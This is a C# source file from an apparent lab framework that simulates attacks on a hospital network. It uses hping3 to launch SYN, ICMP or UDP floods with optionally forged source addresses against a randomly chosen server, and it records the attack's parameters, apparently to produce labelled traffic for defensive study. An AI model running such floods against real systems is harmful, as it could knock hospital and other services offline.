using System.Globalization;
using System.Text.RegularExpressions;
using Wardkeeper.Lab.Hospital;
using Wardkeeper.Lab.Recording;
using Wardkeeper.Lab.Services;
using Wardkeeper.Lab.Site;

namespace Wardkeeper.Lab.Attacks.Floods;

/// <summary>hping3 floods a server of the hospital: with connections that it opens and leaves, pings, or datagrams, under its own address or forged ones.</summary>
internal sealed partial class Flood() : Scene("flood",
    "A laptop floods a server of the hospital with half-open connections, pings or datagrams, some with forged senders.",
    "一台笔记本电脑以半开连接、ping 或数据报洪泛医院的服务器，部分数据包伪造来源。",
    "T1498.001", "T1499.001", "T0814")
{
    /// <summary>What a server offers, and on which port.</summary>
    private static readonly (string Word, int Port)[] Doors = [("http", 80), ("https", 443), ("ssh", 22), ("smb", 445), ("ftp", 21)];

    /// <inheritdoc/>
    public override IReadOnlyList<Requirement> Needs => [new("hping3", "hping3")];

    /// <inheritdoc/>
    public override async Task<SceneReport> RunAsync(SceneStage stage, CancellationToken cancel)
    {
        (HospitalDevice Server, int Port)[] doors = [.. Cast.Inside(stage.Site).SelectMany(device => Doors.Where(door => device.Offers.Contains(door.Word)), (device, door) => (device, door.Port))];
        if (doors.Length == 0) throw new LabException("no device of this hospital offers anything that could be flooded");
        (HospitalDevice server, int port) = stage.Dice.Of(doors);
        string way = stage.Dice.Of(["connections", "pings", "datagrams"]), sender = way == "pings" ? "own" : stage.Dice.Of(["own", "neighbour", "random"]);
        // What must fall into ten seconds does so at these paces.
        int count = stage.Dice.Between(5000, 7000), pause = stage.Dice.Between(600, 1000), size = way == "connections" ? 0 : stage.Dice.Of([0, 64, 400]);
        // Forged senders pass no router that knows its networks: it stands in the server's own department.
        HostNamespace rogue = await stage.PlugAsync(RogueDevice.In(stage, server.Department), cancel);
        string[] forged = sender switch
        {
            "neighbour" => ["-a", RogueDevice.FreeAddress(stage, server.Department).ToString()],
            "random" => ["--rand-source"],
            _ => [],
        };

        stage.Begin();
        ProgramResult result = await stage.RunAsync(rogue, "hping3",
            ["-n", "-q", "-c", SceneStage.Text(count), "-i", $"u{pause}", .. Mode(way, port), .. size == 0 ? (string[])[] : ["-d", SceneStage.Text(size)], .. forged, server.Ip.ToString()], cancel, seconds: 90);
        Match sent = Sent().Match(result.Output);
        // It counts what was answered as well, and ends with 1 when nothing was.
        if (!sent.Success || int.Parse(sent.Groups[1].Value, CultureInfo.InvariantCulture) < count) throw new LabException($"hping3 did not send {count} packets to {server.Key} (log: {result.Log})");
        return new SceneReport([AllOf(rogue), .. way == "pings" ? (SceneTraffic[])[] : [new(server.Ip, null, null, port)]],
            [("attacker", rogue.Device.Ip.ToString()), ("attacker-mac", Network.CardTool.Text(rogue.Device.Mac)), ("server", server.Key), ("way", way), ("port", SceneStage.Text(port)), ("sender", sender), ("packets", SceneStage.Text(count)), ("pause-microseconds", SceneStage.Text(pause))]);
    }

    private static string[] Mode(string way, int port) => way switch
    {
        "connections" => ["-S", "-p", SceneStage.Text(port)],
        "pings" => ["--icmp"],
        _ => ["--udp", "-p", SceneStage.Text(port)],
    };

    [GeneratedRegex(@"(\d+) packets tra\w+")]
    private static partial Regex Sent();
}
